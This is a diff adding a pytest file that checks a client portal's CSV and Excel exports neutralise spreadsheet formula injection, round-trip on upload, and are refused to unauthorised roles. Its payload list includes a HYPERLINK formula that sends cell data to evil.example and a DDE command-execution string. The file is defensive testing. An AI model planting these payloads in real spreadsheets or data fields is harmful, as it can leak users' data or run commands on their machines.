@@ -1,0 +1,91 @@
+"""U5: does an exported cell run in a spreadsheet, and does an upload of the export bring back what was there?"""
+
+import csv
+import io
+import zipfile
+
+import openpyxl
+import pytest
+
+from portal.clients.models import Client, CustomField
+from portal.clients.services import inert
+from portal.clients.services.cells import ACTIVE
+from portal.clients.uploads.tables import restored
+from tenants.context import use_business
+from tests.factories import ClientFactory
+
+EXPORT = "/console/acme/clients/export/"
+EVIL = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1)",
+    "\tTab",
+    "\rReturn",
+    "'=1+1",
+    "''=1",
+    "'plain",
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "=cmd|' /C calc'!A0",
+    'Quote " and, comma',
+    "Zeile\nzwei",
+    "Ána Krüger",
+]
+
+
+@pytest.fixture
+def listed(acme):
+    """One client for each evil name, the same text in a field of the business's own and in a tag."""
+    with use_business(acme):
+        field = CustomField.objects.create(name="=Field", kind="text")
+        for number, text in enumerate(EVIL):
+            client = ClientFactory(name=text, email=f"c{number}@example.com", mobile=f"+49151123456{number:02}")
+            Client.objects.filter(pk=client.pk).update(custom={str(field.pk): text})
+
+
+def export(staff_client, kind):
+    answer = staff_client("manager").post(EXPORT, {"everyone": "yes", "format": kind})
+    assert answer.headers["Content-Disposition"].startswith("attachment")
+    return b"".join(answer.streaming_content)
+
+
+@pytest.mark.usefixtures("listed")
+def test_no_cell_of_a_csv_begins_like_a_formula(staff_client):
+    rows = list(csv.reader(io.StringIO(export(staff_client, "csv").decode("utf-8-sig"), newline="")))
+    assert len(rows) == len(EVIL) + 1
+    assert [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+
+
+@pytest.mark.usefixtures("listed")
+def test_a_csv_that_comes_back_says_what_it_said(staff_client):
+    rows = list(csv.reader(io.StringIO(export(staff_client, "csv").decode("utf-8-sig"), newline="")))
+    head, *body = [[restored(cell) for cell in row] for row in rows]
+    assert head[-1] == "=Field"
+    assert sorted(row[0] for row in body) == sorted(EVIL)
+    assert all(row[0] == row[-1] for row in body)
+    assert all(row[4].startswith("+49") for row in body)
+
+
+@pytest.mark.usefixtures("listed")
+def test_a_workbook_holds_text_and_no_formula(staff_client):
+    content = export(staff_client, "xlsx")
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert {cell.data_type for cell in cells} == {"s"}
+    assert {row[0].value for row in sheet.iter_rows(min_row=2)} >= {"=1+1", "@SUM(1)", "Ána Krüger"}
+    with zipfile.ZipFile(io.BytesIO(content)) as parts:
+        assert b"<f>" not in parts.read("xl/worksheets/sheet1.xml")
+        assert not [name for name in parts.namelist() if "external" in name.lower()]
+
+
+@pytest.mark.parametrize("text", EVIL)
+def test_what_is_made_inert_can_be_told_from_what_was_not(text):
+    assert restored(inert(text)) == text
+    assert not inert(text).startswith(tuple(sign for sign in ACTIVE if sign != "'"))
+
+
+def test_who_may_not_export_gets_no_file_and_no_button(staff_client):
+    for role in ("staff", "read-only"):
+        browser = staff_client(role)
+        assert browser.post(EXPORT, {"everyone": "yes"}).status_code == 403
+        assert "export/" not in browser.get("/console/acme/clients/").content.decode()
